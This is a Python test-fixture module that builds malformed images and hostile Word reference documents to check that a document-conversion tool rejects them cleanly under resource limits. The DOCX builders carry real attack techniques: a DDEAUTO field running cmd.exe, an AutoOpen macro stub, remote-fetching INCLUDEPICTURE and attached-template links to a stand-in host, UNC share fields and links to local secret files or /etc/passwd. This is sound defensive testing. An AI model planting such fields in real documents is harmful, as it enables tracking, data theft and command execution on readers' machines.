"""Hostile files built on the fly for tests/hostile/ (images, reference documents), and the
bounded run every hostile command gets."""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

from helpers import Result, run_cli

LIMIT_BYTES = 1024**3
CPU_SECONDS = 10  # CPU time, which a busy machine does not stretch
HANG_SECONDS = 60.0  # wall-clock time: only for a command that waits forever
PLAN = "rok: 2023\nzadania:\n  - zadanie: Spotkania z mieszkańcami\n    termin: marzec 2023\n"


def run(*args: str | Path, cwd: Path, stdin: bytes | None = None) -> Result:
    """The command in its own process, with capped memory and CPU time."""
    return run_cli(
        *args,
        cwd=cwd,
        stdin=stdin,
        timeout=HANG_SECONDS,
        memory_limit=LIMIT_BYTES,
        cpu_limit=CPU_SECONDS,
    )


def clean(result: Result, *expected: str, codes: tuple[int, ...] = (1, 2)) -> None:
    """The command failed with a message (no traceback) containing every ``expected`` text."""
    assert result.exit_code in codes, result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    for text in expected:
        assert text in result.stderr + result.stdout, f"{text!r} not in {result.stderr!r}"


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 4, height: int = 2) -> bytes:
    """A whole PNG: red pixels."""
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def jpeg_without_frame() -> bytes:
    """SOI, an APP0 segment, then image data (SOS) with no frame header (SOF) before it."""
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return (
        b"\xff\xd8" + app0 + b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00" + b"\x12" * 64 + b"\xff\xd9"
    )


def linked_picture(rel_id: str, number: int) -> str:
    """An inline picture whose image is linked (r:link), not embedded: Word and LibreOffice
    fetch it when the document is opened."""
    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    size = 'cx="914400" cy="914400"'
    return (
        f'<w:drawing><wp:inline xmlns:wp="{wp}"><wp:extent {size}/>'
        f'<wp:docPr id="{number}" name="Obraz {number}"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<pic:pic xmlns:pic="{pic}"><pic:nvPicPr><pic:cNvPr id="{number}" name="logo.png"/>'
        "<pic:cNvPicPr/></pic:nvPicPr>"
        f'<pic:blipFill><a:blip r:link="{rel_id}"/><a:stretch><a:fillRect/></a:stretch>'
        f'</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext {size}/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing>"
    )


def reference_docx(folder: Path, secret: Path) -> Path:
    """A reference DOCX with macros, a remote attached template, a footer image linked from the
    web and from a local file, and an INCLUDEPICTURE field fetching a URL."""
    import docx

    base = folder / "base.docx"
    docx.Document().save(str(base))
    with zipfile.ZipFile(base) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    rels = parts["word/_rels/document.xml.rels"].decode()
    extra = (
        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        f'vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdFtr" Type="{R}/footer" Target="footer9.xml"/>'
    )
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>", extra + "</Relationships>"
    ).encode()
    parts["word/vbaProject.bin"] = b"MACRO-BYTES Sub AutoOpen() Shell(calc) End Sub"
    document = parts["word/document.xml"].decode()
    reference = f'<w:footerReference xmlns:r="{R}" w:type="default" r:id="rIdFtr"/>'
    parts["word/document.xml"] = (
        document.replace("<w:sectPr", "<w:sectPr", 1)
        .replace("<w:pgSz", reference + "<w:pgSz", 1)
        .encode()
    )
    parts["word/footer9.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:ftr xmlns:w="{W}" xmlns:r="{R}" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"<w:p><w:r><w:t>Stopka wzoru</w:t></w:r></w:p>"
        f"<w:p><w:r>{linked_picture('rIdWeb', 1)}</w:r>"
        f"<w:r>{linked_picture('rIdLocal', 2)}</w:r></w:p>"
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> INCLUDEPICTURE "http://198.51.100.7/track.png" \\d '
        "</w:instrText></w:r>"
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>'
    ).encode()
    parts["word/_rels/footer9.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdWeb" Type="{R}/image" Target="http://198.51.100.7/logo.png" '
        f'TargetMode="External"/>'
        f'<Relationship Id="rIdLocal" Type="{R}/image" Target="file://{secret}" '
        f'TargetMode="External"/></Relationships>'
    ).encode()
    settings = parts["word/settings.xml"].decode()
    attached = '<w:attachedTemplate r:id="rIdTpl"/>'
    head_end = settings.index(">", settings.index("<w:settings")) + 1
    parts["word/settings.xml"] = (settings[:head_end] + attached + settings[head_end:]).encode()
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" '
        f'Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Override PartName="/word/footer9.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.footer+xml"/>'
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.'
        'vbaProject"/></Types>',
    ).encode()
    target = folder / "wzor.docx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    target.write_bytes(buffer.getvalue())
    return target


def docx_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def zipped(parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def plain_docx_parts() -> dict[str, bytes]:
    """python-docx's own template, as parts (a new dict: the caller may change it)."""
    return dict(_plain_docx())


@functools.cache
def _plain_docx() -> dict[str, bytes]:
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    return docx_parts(buffer.getvalue())


def libreoffice_docx() -> bytes:
    """A document as LibreOffice saves one without lists: no word/numbering.xml, and the
    core-properties relationship type spelled „officedocument” in lower case."""
    parts = plain_docx_parts()
    del parts["word/numbering.xml"]
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = re.sub(r'<Relationship [^>]*Target="numbering.xml"/>', "", rels)
    parts["word/_rels/document.xml.rels"] = rels.encode()
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = re.sub(
        r'<Override PartName="/word/numbering.xml"[^>]*/>', "", types
    ).encode()
    package_rels = (
        parts["_rels/.rels"]
        .decode()
        .replace(
            "org/package/2006/relationships/metadata/core-properties",
            "org/officedocument/2006/relationships/metadata/core-properties",
        )
    )
    parts["_rels/.rels"] = package_rels.encode()
    return zipped(parts)


def _pillow_jpeg(mode: str, colour: tuple[int, ...]) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new(mode, (16, 8), colour).save(buffer, "JPEG")
    return buffer.getvalue()


def _without_app0(data: bytes) -> bytes:
    """The JPEG with its JFIF APP0 segment (right after SOI) cut out."""
    assert data[2:4] == b"\xff\xe0"
    (length,) = struct.unpack(">H", data[4:6])
    return data[:2] + data[4 + length :]


def jpeg_cmyk_adobe() -> bytes:
    """A CMYK JPEG with Adobe's APP14 marker, as Photoshop saves one for print."""
    data = _pillow_jpeg("CMYK", (0, 255, 255, 0))
    assert b"Adobe" in data
    return data


def jpeg_without_jfif() -> bytes:
    """A baseline JPEG with neither a JFIF nor an Exif segment."""
    return _without_app0(_pillow_jpeg("RGB", (255, 0, 0)))


def jpeg_density_zero() -> bytes:
    """A JFIF JPEG whose density is 0 × 0 dots per inch."""
    data = _pillow_jpeg("RGB", (255, 0, 0))
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x01\x00\x00\x00\x00\x00\x00"
    return data[:2] + app0 + _without_app0(data)[2:]


def jpeg_exif_loop() -> bytes:
    """A JPEG whose Exif IFD points to itself, both as its next IFD and as its Exif IFD."""
    entry = struct.pack(">HHII", 0x8769, 4, 1, 8)  # ExifIFD pointer, LONG, to offset 8
    tiff = b"MM\x00\x2a" + struct.pack(">I", 8) + struct.pack(">H", 1) + entry
    tiff += struct.pack(">I", 8)  # the next IFD: itself
    app1 = b"Exif\x00\x00" + tiff
    segment = b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1
    data = _without_app0(_pillow_jpeg("RGB", (255, 0, 0)))
    return data[:2] + segment + data[2:]


def png_one_pixel_per_metre() -> bytes:
    """A PNG whose pHYs chunk says 1 pixel per metre (0.0254 dpi)."""
    data = png(16, 8)
    at = 8 + 25  # signature, then IHDR (4 + 4 + 13 + 4)
    phys = png_chunk(b"pHYs", struct.pack(">IIB", 1, 1, 1))
    return data[:at] + phys + data[at:]


def _field_runs(*instructions: str, tag: str = "instrText") -> str:
    """One complex field whose instruction is split over runs."""
    codes = "".join(
        f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>' for text in instructions
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>wynik</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


#: Footer content of each hostile reference document (the footer has no _rels part of its own
#: unless the case needs one).
REFERENCE_ATTACKS = {
    "includepicture-without-rels": _field_runs(' INCLUDEPICTURE "http://198.51.100.7/t.png" \\d '),
    "ddeauto": _field_runs(' DDEAUTO "C:\\\\Windows\\\\System32\\\\cmd.exe" "/c calc" '),
    "split-field-code": _field_runs(" INCLUDE", 'PICTURE "http://198.51.100.7/t.png" \\d '),
    "deleted-field-code": _field_runs(
        ' INCLUDEPICTURE "http://198.51.100.7/t.png" ', tag="delInstrText"
    ),
    "database-field": _field_runs(' DATABASE \\d "\\\\\\\\198.51.100.7\\\\x.mdb" \\s "SELECT" '),
    "rd-field": _field_runs(' RD "\\\\\\\\198.51.100.7\\\\share\\\\x.docx" '),
    "simple-field": '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://198.51.100.7/x&quot; ">'
    "<w:r><w:t>wynik</w:t></w:r></w:fldSimple>",
    "vml-absolute-href": '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" o:href="/etc/passwd">'
    '<v:imagedata src="//198.51.100.7/share/x.png" o:title=""/></v:shape></w:pict></w:r>',
    "image-relationship-to-macros": "{picture:rIdMacro}",
    "image-relationship-to-ole": "{picture:rIdOle}",
}


def hostile_reference(attack: str) -> bytes:
    """A reference document whose footer holds ``attack``, a page number and its own text;
    its settings ask Word to update fields on opening."""
    parts = plain_docx_parts()
    content = REFERENCE_ATTACKS[attack]
    if content.startswith("{picture:"):
        rel_id = content[len("{picture:") : -1]
        content = f"<w:r>{linked_picture(rel_id, 7).replace('r:link=', 'r:embed=')}</w:r>"
        parts["word/_rels/footer9.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdMacro" Type="{R}/image" Target="vbaProject.bin"/>'
            f'<Relationship Id="rIdOle" Type="{R}/image" Target="embeddings/oleObject1.bin"/>'
            "</Relationships>"
        ).encode()
        parts["word/vbaProject.bin"] = b"MACRO-BYTES Sub AutoOpen() Shell(calc) End Sub"
        parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1OLE-BYTES"
    parts["word/footer9.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:ftr xmlns:w="{W}" xmlns:r="{R}" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"<w:p><w:r><w:t>Stopka wzoru</w:t></w:r></w:p><w:p>{content}</w:p>"
        f"<w:p><w:r><w:t>Strona </w:t></w:r>{_field_runs(' PAGE ')}</w:p></w:ftr>"
    ).encode()
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdFtr" Type="{R}/footer" Target="footer9.xml"/></Relationships>',
    ).encode()
    document = parts["word/document.xml"].decode()
    reference = f'<w:footerReference xmlns:r="{R}" w:type="default" r:id="rIdFtr"/>'
    parts["word/document.xml"] = document.replace("<w:pgSz", reference + "<w:pgSz", 1).encode()
    settings = parts["word/settings.xml"].decode()
    head_end = settings.index(">", settings.index("<w:settings")) + 1
    parts["word/settings.xml"] = (
        settings[:head_end] + '<w:updateFields w:val="true"/>' + settings[head_end:]
    ).encode()
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Override PartName="/word/footer9.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.footer+xml"/></Types>',
    ).encode()
    return zipped(parts)
